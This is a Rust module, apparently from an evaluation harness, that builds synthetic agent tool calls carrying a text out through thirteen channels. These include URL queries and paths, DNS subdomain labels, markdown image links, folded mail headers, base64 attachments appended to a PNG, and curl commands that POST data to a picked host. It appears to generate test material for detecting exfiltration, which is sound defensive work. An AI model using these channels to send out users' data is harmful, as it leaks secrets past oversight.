//! What data travels in on its way out, and where it stands in there.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::data::arguments;
use super::image;
use super::known::{chunks, percent_needed};
use super::session::Call;
use super::words::{Scene, Source};

/// One way to carry a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Carrier {
    Text,
    CodeBlock,
    JsonInString,
    Query,
    Path,
    Subdomain,
    Key,
    Array,
    Attachment,
    MarkdownImage,
    Headers,
    Form,
    Shell,
}

/// Where in the surrounding text it stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Position {
    Alone,
    Start,
    Middle,
    End,
    Boilerplate,
}

impl Carrier {
    /// All.
    pub(super) const ALL: [Self; 13] = [
        Self::Text,
        Self::CodeBlock,
        Self::JsonInString,
        Self::Query,
        Self::Path,
        Self::Subdomain,
        Self::Key,
        Self::Array,
        Self::Attachment,
        Self::MarkdownImage,
        Self::Headers,
        Self::Form,
        Self::Shell,
    ];

    /// Returns what the report calls it.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Text => "text",
            Self::CodeBlock => "code block",
            Self::JsonInString => "JSON in a string",
            Self::Query => "query",
            Self::Path => "path",
            Self::Subdomain => "subdomain",
            Self::Key => "key",
            Self::Array => "array",
            Self::Attachment => "attachment",
            Self::MarkdownImage => "markdown image",
            Self::Headers => "headers",
            Self::Form => "form",
            Self::Shell => "shell",
        }
    }

    /// Tells whether a text can travel in it at all.
    pub(super) fn fits(self, text: &str) -> bool {
        let label = |byte: u8| byte.is_ascii_alphanumeric() || b"-_".contains(&byte);
        match self {
            Self::Subdomain => text.len() <= 180 && text.bytes().all(label),
            Self::Query | Self::Path | Self::MarkdownImage => text.len() <= 4000,
            Self::Text
            | Self::CodeBlock
            | Self::JsonInString
            | Self::Key
            | Self::Array
            | Self::Attachment
            | Self::Headers
            | Self::Form
            | Self::Shell => true,
        }
    }

    /// Makes the call that carries a text out.
    pub(super) fn carry(self, scene: &mut Scene, position: Position, text: &str) -> Call {
        match self {
            Self::Text => send(scene, |scene| json!(position.place(scene, text))),
            Self::CodeBlock => {
                let block = format!("```\n{text}\n```");
                send(scene, |scene| json!(position.place(scene, &block)))
            }
            Self::JsonInString => {
                let inner = json!({ "data": text, "kind": "note", "v": 2 }).to_string();
                send(scene, |_| json!(inner))
            }
            Self::Key => send(scene, |_| json!({ "tags": { (text): true }, "v": 1 })),
            Self::Array => send(scene, |_| json!(["build", text, "done"])),
            Self::Attachment => attachment(scene, text),
            Self::MarkdownImage => {
                let host = scene.random.pick(scene.words.hosts);
                let image = format!("![status](https://{host}/p.png?d={})", percent_needed(text));
                send(scene, |scene| json!(position.place(scene, &image)))
            }
            Self::Headers => headers(scene, text),
            Self::Form => {
                let body = format!("v=2&note={}&ok=1", percent_needed(text).replace("%20", "+"));
                send(scene, |_| json!(body))
            }
            Self::Subdomain if scene.random.below(3) == 0 => {
                let host = scene.random.pick(scene.words.hosts);
                let name = format!("{}.{host}", chunks(text, 60).join("."));
                Call::new(
                    "dns",
                    "resolve",
                    json!({ "name": name, "type": "A" }),
                    "NXDOMAIN",
                )
            }
            Self::Query | Self::Path | Self::Subdomain => {
                let address = self.address(scene, text);
                fetch(scene, &address)
            }
            Self::Shell => shell(scene, text),
        }
    }

    fn address(self, scene: &mut Scene, text: &str) -> String {
        let host = scene.random.pick(scene.words.hosts);
        let escaped = percent_needed(text);
        match self {
            Self::Query => format!("https://{host}/collect?id=17&d={escaped}&v=2"),
            Self::Subdomain => format!("https://{}.{host}/", chunks(text, 60).join(".")),
            _ => format!("https://{host}/v1/{escaped}/ping"),
        }
    }
}

impl Position {
    /// All.
    pub(super) const ALL: [Self; 5] = [
        Self::Alone,
        Self::Start,
        Self::Middle,
        Self::End,
        Self::Boilerplate,
    ];

    /// Returns what the report calls it.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Alone => "alone",
            Self::Start => "start",
            Self::Middle => "middle",
            Self::End => "end",
            Self::Boilerplate => "boilerplate",
        }
    }

    fn place(self, scene: &mut Scene, text: &str) -> String {
        let words = scene.words;
        let own = scene.some(words.own, 2);
        let [before, after] = <[String; 2]>::try_from(own).unwrap_or_default();
        match self {
            Self::Alone => text.to_owned(),
            Self::Start => format!("{text}\n\n{after}"),
            Self::Middle => format!("{before} {text} {after}"),
            Self::End => format!("{before}\n{text}"),
            Self::Boilerplate => {
                let (before, after) = scene.random.pick(words.boilerplate);
                format!("{before}{text}{after}")
            }
        }
    }
}

/// A call to a sink, with a value in the place of its text.
pub(super) fn send(scene: &mut Scene, value: impl FnOnce(&mut Scene) -> Value) -> Call {
    let sink = scene.random.pick(scene.words.sinks);
    send_to(scene, sink, value)
}

/// A call to this sink.
pub(super) fn send_to(
    scene: &mut Scene,
    (server, tool, template): Source,
    value: impl FnOnce(&mut Scene) -> Value,
) -> Call {
    let mut args = arguments(scene, template, "");
    let value = value(scene);
    let place = template.iter().find(|(_, value)| *value == "{}");
    if let (Some(fields), Some((name, _))) = (args.as_object_mut(), place) {
        fields.insert((*name).to_owned(), value);
    }
    Call::new(server, tool, args, "ok")
}

/// A call that fetches an address.
pub(super) fn fetch(scene: &mut Scene, address: &str) -> Call {
    let (server, tool, template) = scene.random.pick(scene.words.fetches);
    let args = arguments(scene, template, address);
    Call::new(server, tool, args, "404 not found")
}

/// A file as text in base64, with or without a header, or behind the end of a picture.
fn attachment(scene: &mut Scene, text: &str) -> Call {
    let (name, content) = match scene.random.below(4) {
        0 => (
            "notes.txt",
            format!("data:text/plain;base64,{}", STANDARD.encode(text)),
        ),
        1 => {
            let file = format!("Title: notes\nVersion: 3\n\n{text}\n");
            ("notes.md", STANDARD.encode(file))
        }
        2 => {
            let file = format!(
                "%PDF-1.4\n1 0 obj\n<< /Length {} >>\nstream\n{text}\n",
                text.len()
            );
            ("report.pdf", STANDARD.encode(file))
        }
        _ => {
            let mut file = image::png(&mut scene.random, 8, 8);
            file.extend(text.bytes());
            ("chart.png", STANDARD.encode(file))
        }
    };
    let (server, tool, _) = scene.random.pick(scene.words.sinks);
    let args = json!({ "attachments": [{ "content": content, "name": name }], "text": "see file" });
    Call::new(server, tool, args, "ok")
}

/// A mail whose headers hold it, folded as headers are.
fn headers(scene: &mut Scene, text: &str) -> Call {
    let folded = text.replace("\r\n", "\n").replace('\n', "\r\n ");
    let (server, tool, _) = scene.random.pick(scene.words.sinks);
    let args = json!({
        "headers": { "List-Id": "weekly", "X-Trace": folded },
        "text": "see you tomorrow",
        "to": "reader@elsewhere.example",
    });
    Call::new(server, tool, args, "ok")
}

/// A shell that an upstream offers.
fn shell(scene: &mut Scene, text: &str) -> Call {
    let host = scene.random.pick(scene.words.hosts);
    let quoted = text.replace('\'', "'\\''");
    let command = match scene.random.below(3) {
        0 => format!("curl -s -d '{quoted}' https://{host}/in"),
        1 => format!("curl {host} --data-raw '{quoted}'"),
        _ => format!("printf '%s' '{quoted}' | curl -sS -X POST --data-binary @- https://{host}/u"),
    };
    let (server, tool) = scene
        .random
        .pick(&[("shell", "run_command"), ("terminal", "execute")]);
    Call::new(server, tool, json!({ "command": command }), "ok")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::eval::flow::words::Set;

    #[test]
    fn every_carrier_holds_the_text_where_it_says() {
        let text = "QX7RT2-1z";
        for set in Set::ALL {
            for carrier in Carrier::ALL {
                for position in Position::ALL {
                    let mut scene = Scene::new(set.words(), carrier.name());
                    assert!(carrier.fits(text));
                    let call = carrier.carry(&mut scene, position, text);
                    let args = call.args.to_string();
                    let found = args.contains(text);
                    assert_eq!(found, carrier != Carrier::Attachment, "{args}");
                }
            }
        }
    }

    #[test]
    fn a_host_name_is_short_and_plain() {
        assert!(Carrier::Subdomain.fits("abc-12"));
        assert!(!Carrier::Subdomain.fits("a b"));
        assert!(!Carrier::Subdomain.fits(&"a".repeat(181)));
    }
}
